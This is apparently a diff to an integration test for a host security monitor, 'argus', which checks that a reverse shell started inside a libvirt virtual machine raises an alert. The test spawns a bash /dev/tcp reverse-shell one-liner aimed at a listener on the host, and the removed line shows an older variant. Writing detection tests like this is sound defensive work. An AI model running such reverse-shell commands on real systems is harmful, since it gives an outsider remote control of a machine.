@@ -8,10 +8,11 @@ argus's process list of it (vm:PID, the pid libvirt records) matches the
 domain's own /proc, and a reverse shell inside it is alerted.  The domain
 is destroyed and undefined whatever happens.
 """
+import socket
 import time
 
 from conftest import Service
-from domain import Domain, Libvirtd
+from domain import USER_HOST, Domain, Libvirtd
 from test_discovery import named
 from test_ps import argus_ps, compare, truth
 
@@ -24,6 +25,7 @@ def test_libvirt_domain(tmp_path):
         d = Domain(f"argus-lv{tag}")
         svc = Service(tmp_path, None, sleep=SLEEP, systems=False, argus="  auto_scan: true\n",
                       service="  user: nobody\n")
+        attacker = None
         try:
             assert svc.wait_for(lambda m: m["activity_data"]["name"] ==
                                 "Service Initialization Successful", timeout=20)
@@ -56,9 +58,12 @@ def test_libvirt_domain(tmp_path):
             assert svc.wait_for(lambda m: named(m, d.name, "Process Created") and
                                 m["activity_data"]["process_details"]["process_id"] == pid,
                                 timeout=10), "a process inside the domain was not seen"
-            d.spawn("sleep 1000 | socat TCP-LISTEN:4461,reuseaddr -")
-            time.sleep(1)
-            d.spawn("bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4461 0>&1'")
+            # to an attacker on another machine: a listener here, which the
+            # domain's user-mode network reaches at its host address
+            # (domain.USER_HOST) -- a listener inside would be no attacker
+            attacker = socket.create_server(("127.0.0.1", 0))
+            port = attacker.getsockname()[1]
+            d.spawn(f"bash -c 'exec bash -i >& /dev/tcp/{USER_HOST}/{port} 0>&1'")
             assert svc.wait_for(lambda m: named(m, d.name, "Reverse Shell Detected"),
                                 timeout=15), "the reverse shell inside the domain was not alerted"
             alerts = [m["activity_data"]["name"] for m in svc.messages
@@ -72,5 +77,7 @@ def test_libvirt_domain(tmp_path):
                                 "is gone" in m["activity_data"]["system_activity_details"]
                                 ["description"], timeout=20), "the domain's end was not told"
         finally:
+            if attacker:
+                attacker.close()
             d.stop()
             svc.stop(check_alerts=False)
